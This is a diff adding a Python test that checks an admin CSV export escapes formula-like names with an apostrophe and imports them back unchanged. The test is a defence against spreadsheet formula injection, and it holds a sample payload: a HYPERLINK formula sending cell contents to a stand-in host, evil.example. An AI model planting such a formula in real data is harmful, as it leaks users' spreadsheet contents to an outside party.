@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import logging
 import re
@@ -157,6 +158,28 @@ def test_an_export_imported_back_changes_nothing(client, admin, kind):
     page = client.get(response.headers["Location"]).get_data(as_text=True)
     assert f"Imported: 0 created, 0 updated, {len(rows)} unchanged" in page
     assert client.get(f"/admin/{kind}.csv").data == exported.data
+
+
+def test_a_name_a_spreadsheet_would_run_is_exported_as_text_and_imports_back_unchanged(
+    client, admin, net, session
+):
+    hostile = '=HYPERLINK("http://evil.example/"&A1,"Zone")'  # e.g. sent in a REGISTER SMS
+    session.get(FocalPoint, net["pending"].id).name = hostile
+    session.add(Place(name="@SUM(1+1)", lat=-1.2, lon=28.9, admin1="-Nord", admin2="+x", alt_names=""))
+    session.commit()
+
+    focal_points = client.get("/admin/focal-points.csv").get_data(as_text=True)
+    places = client.get("/admin/places.csv").get_data(as_text=True)
+
+    row = next(r for r in csv.reader(io.StringIO(focal_points)) if r[1] == net["pending"].phone)
+    assert row[0] == "'" + hostile
+    assert row[1].startswith("+243")  # a phone number is not a formula: left as it is
+    assert ["'@SUM(1+1)", "-1.2", "28.9", "'-Nord", "'+x", ""] in list(csv.reader(io.StringIO(places)))
+    for kind, exported in (("focal-points", focal_points), ("places", places)):
+        response = _upload(client, admin, kind, exported)
+        page = client.get(response.headers["Location"]).get_data(as_text=True)
+        assert "0 created, 0 updated" in page  # the apostrophes are taken off: nothing changed
+    assert _fresh(session).get(FocalPoint, net["pending"].id).name == hostile
 
 
 def test_the_exports_hold_the_full_numbers_and_zones_in_the_import_format(client, admin, net):
